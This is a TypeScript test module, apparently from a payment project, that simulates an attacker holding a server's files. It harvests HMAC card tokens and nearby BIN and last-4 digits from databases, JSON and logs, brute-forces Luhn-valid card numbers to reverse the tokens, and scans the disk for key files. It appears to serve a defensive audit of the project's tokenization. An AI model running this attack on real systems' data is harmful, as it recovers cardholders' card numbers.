import Database from 'better-sqlite3';
import { createHmac } from 'node:crypto';
import { readFileSync, readdirSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { luhnValid } from '../../src/card/luhn.js';

/*
 * The attacker of the finding: holds a box's files and the token key, and rebuilds card numbers by
 * testing candidates against the tokens. Facts are read from every record that holds a token (a
 * database row, a JSON object, a log line), by what the open source says the fields mean, and from
 * any digits in free text.
 */

/** One row, object or line: its fields as text, with their names where the format has them. */
export interface FactRecord {
  readonly source: string;
  readonly fields: readonly { readonly name: string; readonly value: string }[];
}

/** A token: HMAC-SHA256 as base64url, 43 characters. */
const TOKEN = /(?<![A-Za-z0-9_-])[A-Za-z0-9_-]{43}(?![A-Za-z0-9_-])/g;
const PREFIX_FIELD = /bin|iin|prefix|first/i;
const SUFFIX_FIELD = /last4|last_4|suffix/i;
/** Most candidates tried for one (token, prefix, suffix): what a 16-digit card with BIN and last 4 needs (10^5). */
export const CANDIDATES_PER_GUESS = 100_000;
const PAN_LENGTHS = [13, 14, 15, 16, 17, 18, 19];

/** Every file under `root`, read as the attacker would; SQLite's -wal/-shm are read through their database. */
export function listFiles(root: string): string[] {
  const out: string[] = [];
  for (const name of readdirSync(root)) {
    const path = join(root, name);
    const stats = statSync(path, { throwIfNoEntry: false });
    if (stats === undefined) continue;
    if (stats.isDirectory()) out.push(...listFiles(path));
    else if (stats.isFile()) out.push(path);
  }
  return out;
}

function isSqlite(path: string): boolean {
  const head = readFileSync(path).subarray(0, 16);
  return head.toString('latin1') === 'SQLite format 3\0';
}

export function recordsOf(path: string): FactRecord[] {
  if (/-(wal|shm|journal)$/.test(path)) return [];
  if (isSqlite(path)) return sqliteRecords(path);
  const text = readFileSync(path, 'utf8');
  const records: FactRecord[] = [];
  for (const [i, line] of text.split('\n').entries()) {
    const source = `${path}:${i + 1}`;
    let parsed: unknown;
    try {
      parsed = JSON.parse(line);
    } catch {
      parsed = undefined;
    }
    if (typeof parsed === 'object' && parsed !== null) records.push({ source, fields: flatten(parsed, '') });
    else records.push({ source, fields: [{ name: '', value: line }] });
  }
  return records;
}

function flatten(value: unknown, name: string): { name: string; value: string }[] {
  if (value === null || value === undefined) return [];
  if (typeof value !== 'object') return [{ name, value: String(value) }];
  return Object.entries(value as Record<string, unknown>).flatMap(([k, v]) => flatten(v, name === '' ? k : `${name}.${k}`));
}

function sqliteRecords(path: string): FactRecord[] {
  const db = new Database(path, { readonly: true, fileMustExist: true });
  try {
    const tables = db.prepare("SELECT name FROM sqlite_master WHERE type = 'table'").all() as { name: string }[];
    return tables.flatMap(({ name }) =>
      (db.prepare(`SELECT * FROM "${name}"`).all() as Record<string, unknown>[]).map((row, i) => ({
        source: `${path}#${name}[${i}]`,
        fields: Object.entries(row)
          .filter(([, v]) => v !== null && !(v instanceof Buffer))
          .map(([k, v]) => ({ name: k, value: String(v) })),
      })),
    );
  } finally {
    db.close();
  }
}

export interface AttackResult {
  /** Distinct tokens found in records. */
  readonly tokens: number;
  readonly recovered: readonly { readonly pan: string; readonly token: string; readonly source: string }[];
  readonly hmacs: number;
  /** Guesses left untried because they exceed CANDIDATES_PER_GUESS. */
  readonly tooLarge: number;
  /** The smallest of those spaces for a 16-digit card (all of this store's cards): what recovering one would cost. */
  readonly smallestUntriedSpaceAt16Digits: number;
}

/** Every (prefix, suffix) the record offers for its tokens: named fields, else any digits in free text. */
function guessesOf(record: FactRecord): { prefixes: Set<string>; suffixes: Set<string>; full: Set<string> } {
  const prefixes = new Set<string>();
  const suffixes = new Set<string>();
  const full = new Set<string>();
  for (const { name, value } of record.fields) {
    for (const digits of value.match(/\d+/g) ?? []) {
      if (digits.length >= 12 && digits.length <= 19) full.add(digits);
      const free = name === '';
      if ((free || PREFIX_FIELD.test(name)) && digits.length >= 6 && digits.length <= 8) prefixes.add(digits);
      if ((free || SUFFIX_FIELD.test(name)) && digits.length === 4) suffixes.add(digits);
    }
  }
  return { prefixes, suffixes, full };
}

export function attack(records: readonly FactRecord[], key: Buffer): AttackResult {
  const hmac = (pan: string): string => createHmac('sha256', key).update(pan, 'ascii').digest('base64url');
  const tried = new Set<string>();
  const recovered: { pan: string; token: string; source: string }[] = [];
  const tokens = new Set<string>();
  let hmacs = 0;
  let tooLarge = 0;
  let smallestUntriedSpaceAt16Digits = Number.POSITIVE_INFINITY;
  for (const record of records) {
    const found = new Set(record.fields.flatMap((f) => f.value.match(TOKEN) ?? []));
    if (found.size === 0) continue;
    const { prefixes, suffixes, full } = guessesOf(record);
    for (const token of found) {
      tokens.add(token);
      if (recovered.some((r) => r.token === token)) continue;
      const hit = (pan: string): boolean => {
        hmacs++;
        if (hmac(pan) !== token) return false;
        recovered.push({ pan, token, source: record.source });
        return true;
      };
      if ([...full].some(hit)) continue;
      // No prefix on record: the attacker knows only the last 4 (or nothing).
      const prefixList = prefixes.size === 0 ? [''] : [...prefixes];
      const suffixList = suffixes.size === 0 ? [''] : [...suffixes];
      search: for (const prefix of prefixList) {
        for (const suffix of suffixList) {
          const guess = `${token}|${prefix}|${suffix}`;
          if (tried.has(guess)) continue;
          tried.add(guess);
          for (const length of PAN_LENGTHS) {
            const free = length - prefix.length - suffix.length;
            if (free < 1) continue;
            // Luhn fixes one digit of every candidate, the check digit or a middle one.
            const space = 10 ** (free - 1);
            if (space > CANDIDATES_PER_GUESS) {
              tooLarge++;
              if (length === 16) smallestUntriedSpaceAt16Digits = Math.min(smallestUntriedSpaceAt16Digits, space);
              continue;
            }
            for (let n = 0; n < 10 ** free; n++) {
              const pan = `${prefix}${String(n).padStart(free, '0')}${suffix}`;
              if (!luhnValid(pan)) continue;
              if (hit(pan)) break search;
            }
          }
        }
      }
    }
  }
  return { tokens: tokens.size, recovered, hmacs, tooLarge, smallestUntriedSpaceAt16Digits };
}

/** Base64 text of exactly 32 bytes in a file: a key the attacker tries as the token key. */
export function keysOnDisk(files: readonly string[]): Buffer[] {
  const keys: Buffer[] = [];
  for (const file of files) {
    const text = readFileSync(file, 'utf8').trim();
    if (!/^[A-Za-z0-9+/_-]{43}=?$/.test(text)) continue;
    const bytes = Buffer.from(text, text.includes('-') || text.includes('_') ? 'base64url' : 'base64');
    if (bytes.length === 32) keys.push(bytes);
  }
  return keys;
}
